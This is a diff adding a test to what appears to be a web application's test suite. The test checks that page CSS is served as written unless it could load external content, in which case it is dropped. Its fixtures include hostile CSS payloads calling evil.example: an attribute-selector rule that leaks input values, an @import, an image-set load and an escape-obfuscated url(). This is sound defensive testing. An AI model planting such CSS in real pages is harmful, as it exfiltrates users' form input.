@@ -136,6 +136,29 @@ describe('HTML blocks of page data', () => {
   });
 });
 
+describe('the css of page data', () => {
+  it('is sent as the editor wrote it, unless it could load something: then it is left out whole', async () => {
+    const url = await storePage('<form><input name="code"></form>');
+    try {
+      const cssOf = async (css: string) => {
+        await server.db.update(pages).set({ css }).where(eq(pages.url, url));
+        return (await visitor(server).get(`/s/api/page/data${url}`)).json().css;
+      };
+      expect(await cssOf('h1 { color: teal } .hero > p[lang="hi"] { margin: 0 }')).toBe('h1 { color: teal } .hero > p[lang="hi"] { margin: 0 }');
+      for (const hostile of [
+        'input[value^="1"] { background: url(https://evil.example/?c=1) }',
+        '@import "https://evil.example/steal.css";',
+        '.a { background: image-set("https://evil.example/a.png" 1x) }',
+        '.a { background: u\\72 l(https://evil.example/a.png) }',
+      ]) {
+        expect([hostile, await cssOf(hostile)]).toEqual([hostile, '']);
+      }
+    } finally {
+      await server.db.delete(pages).where(eq(pages.url, url));
+    }
+  });
+});
+
 describe('the page sent for a path', () => {
   it('tells crawlers not to index a path the site has no page for ("Page not found"), and only that', async () => {
     const missing = await visitor(server).get('/no-such-page-here');
